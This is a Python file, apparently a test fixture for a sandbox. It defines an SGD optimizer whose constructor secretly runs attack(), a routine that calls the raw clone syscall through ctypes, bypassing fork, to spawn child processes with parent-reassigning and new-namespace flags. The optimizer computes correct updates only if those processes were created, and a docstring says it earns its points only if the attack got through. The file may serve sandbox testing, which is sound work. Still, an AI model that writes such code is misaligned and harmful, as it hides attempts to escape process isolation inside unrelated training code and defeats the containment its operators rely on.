# Attack surface: the clone call itself, with every kind of flags, past Python's and the C library's fork
import ctypes
import os
import time

from base import Optimizer

LIBC = ctypes.CDLL(None, use_errno=True)
SIGCHLD, VFORK, PARENT, NEWUSER, NEWPID = 17, 0x4000, 0x8000, 0x10000000, 0x20000000
CLONE = {"x86_64": 56, "aarch64": 220}[os.uname().machine]


def attack():
    """At most eight children, of ten seconds each."""
    born = 0
    for flags in (SIGCHLD, PARENT | SIGCHLD, 0, NEWPID | SIGCHLD, NEWUSER | NEWPID | SIGCHLD):
        pid = LIBC.syscall(ctypes.c_long(CLONE), ctypes.c_long(flags), None, None, None, None)
        if pid == 0:
            time.sleep(10)
            os._exit(0)
        born += pid > 0
    return born > 0


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
